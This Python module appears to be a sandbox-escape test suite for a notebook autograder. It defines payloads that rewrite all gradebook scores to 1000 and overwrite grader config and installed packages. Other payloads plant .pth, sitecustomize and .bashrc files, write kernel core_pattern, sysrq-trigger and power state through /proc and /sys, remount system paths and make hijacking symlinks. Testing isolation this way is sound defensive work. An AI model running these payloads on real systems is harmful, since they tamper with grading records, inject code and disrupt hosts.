"""Writing where others read: the course directory, the gradebook, packages, the inputs, whatever is mounted."""

from attacks.attack import before

TRY = """
import os, shutil
from pathlib import Path
def put(path, text="$MARK"):
    try:
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        Path(path).write_text(text)
        print("wrote", path)
    except OSError as error:
        print(path, error.strerror)
"""
GRADEBOOK = """
import glob, sqlite3
for path in ["$COURSE/gradebook.db", *glob.glob("/proc/*/cwd/gradebook.db"), *glob.glob("/proc/*/root$COURSE/gradebook.db")]:
    try:
        with sqlite3.connect(path, timeout=1) as database:
            database.execute("update grade set auto_score = 1000, manual_score = 1000, needs_manual_grade = 0")
            print("rewrote", path)
    except sqlite3.Error as error:
        print(path, error)
"""
REMOUNT = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for target in (b"/", b"/usr", b"/inputs", b"/proc/sys"):
    print(target, libc.mount(None, target, None, 0x1000 | 0x20, None), libc.umount2(target, 2))
"""

ATTACKS = [
    before(
        "writing-course",
        TRY
        + 'put("$COURSE/submitted/$MARK.ipynb")\nput("$COURSE/nbgrader_config.py", "1/0")\nput("$COURSE/.course-secret", "0" * 64)',
    ),
    before(
        "writing-canary",
        TRY + 'put("$CANARY/$MARK")\nput("$CANARY/word.txt", "changed")\nshutil.rmtree("$CANARY", ignore_errors=True)',
    ),
    before("writing-gradebook", GRADEBOOK),
    before(
        "writing-packages",
        TRY
        + "import course, keras, site\n"
        + "for module in (course, keras, os, site):\n    put(module.__file__, 'raise SystemExit')\n"
        + "for folder in site.getsitepackages():\n    put(folder + '/$MARK.pth', 'import os')\n    put(folder + '/sitecustomize.py')",
    ),
    before(
        "writing-home",
        TRY
        + "for home in ('/root', '/home', os.path.expanduser('~nobody'), '/var/tmp', '/etc', '/usr/bin'):\n    put(home + '/$MARK')\n"
        + "put(os.path.expanduser('~root/.bashrc'))",
    ),
    before(
        "writing-inputs",
        TRY
        + "for path in ('/inputs/request.json', '/cache/$MARK', '/submission/$MARK', '/proc/self/root/../$MARK'):\n    put(path)",
    ),
    before(
        "writing-proc",
        TRY
        + "for pid in os.listdir('/proc'):\n    if pid.isdigit():\n        put(f'/proc/{pid}/root$CANARY/$MARK')\n        put(f'/proc/{pid}/cwd/$MARK')\n"
        + "put('/proc/sys/kernel/core_pattern', '|$CANARY/$MARK')\nput('/proc/sysrq-trigger', 'h')\nput('/sys/power/state', 'mem')",
    ),
    before("writing-remount", TRY + REMOUNT + 'put("/usr/lib/$MARK")'),
    before(
        "writing-link",
        TRY
        + "for link, target in (('out', '$CANARY'), ('/run/kernel-1', '$CANARY/word.txt'), ('/run/connection.json', '$CANARY/word.txt')):\n"
        + "    try:\n        Path(link).unlink(missing_ok=True); os.symlink(target, link)\n    except OSError as error:\n        print(error)\n"
        + "put('out/$MARK')",
    ),
]
